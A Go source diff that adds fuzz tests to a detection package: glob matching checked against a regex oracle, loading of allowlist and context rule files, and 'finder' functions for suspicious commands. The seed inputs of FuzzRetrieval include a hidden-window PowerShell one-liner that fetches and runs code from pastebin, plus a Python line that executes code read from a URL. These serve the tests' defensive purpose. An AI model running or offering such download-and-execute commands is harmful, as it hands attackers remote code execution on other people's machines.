@@ -3,6 +3,8 @@ package detect
 import (
 	"os"
 	"path/filepath"
+	"regexp"
+	"strings"
 	"testing"
 	"unicode/utf8"
 )
@@ -86,6 +88,100 @@ func FuzzCatalogFile(f *testing.F) {
 			if string(NormalizeHost(nil, []byte(s.Domain))) != s.Domain {
 				t.Fatalf("loaded a domain that does not normalise to itself: %q", s.Domain)
 			}
+		}
+	})
+}
+
+// FuzzGlob: a compiled pattern matches exactly what the same pattern as an
+// anchored, case-insensitive regular expression ('*' as .*) matches.
+func FuzzGlob(f *testing.F) {
+	f.Add(`C:\Program Files\*\ruby.exe`, `c:\program files\puppet labs\puppet\bin\RUBY.EXE`)
+	f.Add(`*\npm-cli.js*`, `node "C:\x\npm-cli.js" install`)
+	f.Add(`a*a`, `a`)
+	f.Add(`**x*`, `yxy`)
+	f.Fuzz(func(t *testing.T, pattern, value string) {
+		g, err := CompileGlob(pattern)
+		if err != nil {
+			if strings.Trim(pattern, "*") != "" {
+				t.Fatalf("refused %q: %v", pattern, err)
+			}
+			return
+		}
+		got := g.Match([]byte(value))
+		if !utf8.ValidString(pattern) || !utf8.ValidString(value) {
+			return // the oracle's regexp cannot take the bytes; Match did not panic
+		}
+		var re strings.Builder
+		re.WriteString(`(?s)^`)
+		for i, part := range strings.Split(pattern, "*") {
+			if i > 0 {
+				re.WriteString(".*")
+			}
+			re.WriteString(regexp.QuoteMeta(asciiLower(part)))
+		}
+		re.WriteString(`$`)
+		want := regexp.MustCompile(re.String()).MatchString(asciiLower(value))
+		if got != want {
+			t.Fatalf("%q on %q: %v, the regular expression says %v", pattern, value, got, want)
+		}
+	})
+}
+
+// FuzzRuleFiles: an allowlist or context lookup either loads, every rule
+// with what makes it safe, or fails with the file's name and a line.
+func FuzzRuleFiles(f *testing.F) {
+	f.Add("host,user,process,path,pe_name,domain\n,,git.exe,*\\Git\\*,,github.com;gitlab.com\n", true)
+	f.Add("kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,C:\\P\\*\\ruby.exe,,,,\n", false)
+	f.Add("kind,process,path,parent_path,command_line,url,user\nx,,,,,**,\n", false)
+	f.Fuzz(func(t *testing.T, content string, allow bool) {
+		dir := t.TempDir()
+		name := ContextFile
+		if allow {
+			name = AllowlistFile
+		}
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if allow {
+			rules, err := loadAllow(path)
+			if err != nil {
+				if _, ok := err.(*CatalogError); !ok {
+					t.Fatalf("error without file and line: %v", err)
+				}
+				return
+			}
+			for _, r := range rules {
+				if len(r.Domains) == 0 {
+					t.Fatalf("a rule that allows every service loaded: %+v", r)
+				}
+			}
+			return
+		}
+		rules, err := loadContext(path)
+		if err != nil {
+			if _, ok := err.(*CatalogError); !ok {
+				t.Fatalf("error without file and line: %v", err)
+			}
+			return
+		}
+		for _, r := range rules {
+			if r.Path == nil && r.ParentPath == nil && r.Command == nil && r.URL == nil {
+				t.Fatalf("a rule by file name only loaded: %+v", r)
+			}
+		}
+	})
+}
+
+// FuzzRetrieval: the finders read any text without panicking.
+func FuzzRetrieval(f *testing.F) {
+	f.Add([]byte(`powershell -w h -c "iex (iwr https://pastebin.com/raw/x) > $env:TEMP\x"`), true)
+	f.Add([]byte(`python -c "exec(urlopen('x').read())"`), false)
+	f.Fuzz(func(t *testing.T, text []byte, ps bool) {
+		DownloadExecute(text, ps)
+		HiddenWindow(text, ps)
+		if p := TempPlace(text); p != "" && !containsFold(text, p) {
+			t.Fatalf("place %q not in the text", p)
 		}
 	})
 }
